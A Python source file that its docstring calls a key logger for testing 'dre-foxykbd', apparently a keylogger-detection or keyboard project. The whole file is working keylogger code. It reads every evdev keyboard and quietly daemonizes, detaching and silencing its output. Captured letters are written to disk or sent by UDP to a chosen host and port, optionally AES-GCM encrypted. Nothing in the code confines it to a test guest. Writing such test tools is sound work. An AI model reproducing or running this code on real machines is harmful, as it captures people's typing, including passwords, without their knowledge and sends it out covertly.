# SPDX-License-Identifier: Apache-2.0
"""A key logger for the tests of dre-foxykbd, and for nothing else: it reads the keyboards of the guest it runs in.

It goes on in the background as soon as it reads, as evdev gives it all keys, whoever they are for. Of letters it keeps
one octet each.
"""

import argparse
import fcntl
import os
import re
import select
import socket
import struct
import sys
import time

EVENT = struct.Struct("llHHi")  # input_event in linux/input.h: the time, type, code, value
KEY, PRESSED = 1, 1
LETTERS = {
    **dict(zip(range(16, 26), b"qwertyuiop", strict=True)),
    **dict(zip(range(30, 39), b"asdfghjkl", strict=True)),
    **dict(zip(range(44, 51), b"zxcvbnm", strict=True)),
}


def keyboards():
    """Their devices."""
    with open("/proc/bus/input/devices") as stream:
        handlers = re.findall(r"^H: Handlers=(.*\bkbd\b.*)$", stream.read(), re.MULTILINE)
    names = [name for line in handlers for name in re.findall(r"\bevent\d+\b", line)]
    return [os.open(f"/dev/input/{name}", os.O_RDONLY) for name in names]


def to_disk(path, flush):
    """Appends to *path*; with *flush* it is on the disk when it has been written."""
    file = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)

    def put(octets):
        os.write(file, octets)
        if flush:
            os.fsync(file)

    return put


def to_network(address):
    """Sends a datagram to *address*, HOST:PORT."""
    host, port = address.split(":")
    peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return lambda octets: peer.sendto(octets, (host, int(port)))


def encrypted(put, key):
    """Lets *put* have what nobody can read who has not the *key*: a nonce, and what AES-GCM makes of it."""
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    cipher = AESGCM(key)

    def put_encrypted(octets):
        nonce = os.urandom(12)
        put(nonce + cipher.encrypt(nonce, octets, None))

    return put_encrypted


def log(devices, put, keep, wait):
    """Let *put* have letters, *keep* at a time, and what there is after *wait* seconds at the latest."""
    kept, due = bytearray(), None
    while True:
        rest = None if due is None else max(0.0, due - time.monotonic())
        ready, _, _ = select.select(devices, [], [], rest)
        for device in ready:
            octets = os.read(device, 64 * EVENT.size)
            for _, _, kind, code, value in EVENT.iter_unpack(octets):
                if (kind, value) == (KEY, PRESSED) and code in LETTERS:
                    kept.append(LETTERS[code])
                if len(kept) >= keep:
                    put(bytes(kept))
                    kept.clear()
                    due = None
        if kept and due is None and wait:
            due = time.monotonic() + wait
        if due is not None and time.monotonic() >= due:
            put(bytes(kept))
            kept.clear()
            due = None


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    to = parser.add_mutually_exclusive_group(required=True)
    to.add_argument("--disk", metavar="FILE")
    to.add_argument("--network", metavar="HOST:PORT")
    parser.add_argument("--lazy", action="store_true", help="leave it to the kernel when a file is written to the disk")
    parser.add_argument("--keep", metavar="N", type=int, default=1)
    parser.add_argument("--wait", metavar="S", type=float)
    parser.add_argument("--key", metavar="HEX", type=bytes.fromhex)
    args = parser.parse_args()
    put = to_disk(args.disk, not args.lazy) if args.disk else to_network(args.network)
    if args.key:
        put = encrypted(put, args.key)
    devices = keyboards()
    if not devices:
        sys.exit("there is no keyboard")
    for device in devices:
        fcntl.fcntl(device, fcntl.F_SETFL, os.O_NONBLOCK)
    if os.fork():
        os._exit(0)
    os.setsid()
    none = os.open("/dev/null", os.O_RDWR)
    for number in range(3):
        os.dup2(none, number)
    log(devices, put, args.keep, args.wait)


if __name__ == "__main__":
    main()
